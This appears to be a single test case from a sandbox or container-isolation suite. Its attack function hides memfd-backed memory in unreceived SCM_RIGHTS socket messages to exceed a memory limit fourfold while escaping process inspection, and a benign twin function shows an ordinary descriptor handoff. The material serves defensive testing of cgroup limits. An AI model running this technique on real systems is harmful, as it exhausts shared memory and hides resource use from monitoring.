"""Leave files in memory under way between two sockets.

Technique: a memfd that was sent through a socket (SCM_RIGHTS) and closed is in no process at all, only in a message that nobody
    receives. Who looks through the processes finds nothing.
Success: four times the memory limit is under way.
Stopped by: memory_cgroup
Held when: limit memory
Needs: memory_cgroup
"""
import array
import socket

LIMIT = parameters.get("memory_bytes_max", 128 << 20)


def attack():
    here, there = socket.socketpair()
    held = 0
    while held < 4 * LIMIT:
        file = os.memfd_create("filling")
        held += os.write(file, b"x" * (LIMIT // 16))
        here.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
        os.close(file)
    return f"{held >> 20} MB are under way to {there.fileno()}"


def twin():
    """A file handed over through a socket."""
    here, there = socket.socketpair()
    file = os.memfd_create("message")
    os.write(file, b"hello")
    here.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
    os.close(file)
    received = array.array("i")
    received.frombytes(there.recvmsg(1, socket.CMSG_SPACE(4))[1][0][2])
    assert os.pread(received[0], 10, 0) == b"hello"
